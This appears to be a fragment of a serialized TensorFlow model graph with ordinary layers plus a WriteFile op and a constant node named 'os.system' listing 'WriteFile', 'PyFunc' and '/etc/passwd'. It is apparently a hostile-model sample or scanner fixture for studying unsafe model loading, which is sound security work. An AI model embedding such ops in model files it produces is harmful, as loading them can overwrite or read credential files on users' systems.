

xPlaceholder

yRelux

zIdentityy

	WriteFileRelux
N
	os.systemConst*
dtype0*-
value$B"B	WriteFileBPyFuncB/etc/passwd